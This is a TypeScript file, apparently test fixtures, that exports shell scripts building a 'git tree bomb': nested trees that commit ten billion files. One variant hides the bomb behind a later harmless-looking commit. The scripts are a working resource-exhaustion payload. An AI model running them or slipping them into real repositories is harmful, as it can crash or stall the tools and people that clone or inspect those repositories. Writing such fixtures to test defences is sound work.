/** Shell text that commits ten trees, each with the next one ten times: 10¹⁰ files. */
export const treeBomb = `
blob=$(echo x | git hash-object -w --stdin)
tree=$(for i in 0 1 2 3 4 5 6 7 8 9; do printf '100644 blob %s\\tf%s\\n' "$blob" "$i"; done | git mktree)
for level in 1 2 3 4 5 6 7 8 9; do
  tree=$(for i in 0 1 2 3 4 5 6 7 8 9; do printf '040000 tree %s\\td%s\\n' "$tree" "$i"; done | git mktree)
done
git update-ref HEAD $(echo bomb | git commit-tree $tree -p HEAD)`;

/** Shell text that commits such trees and then takes them back: only the last commit is harmless. */
export const hiddenTreeBomb = `before=$(git rev-parse HEAD)
${treeBomb}
git update-ref HEAD $(echo harmless | git commit-tree $before^{tree} -p HEAD)`;
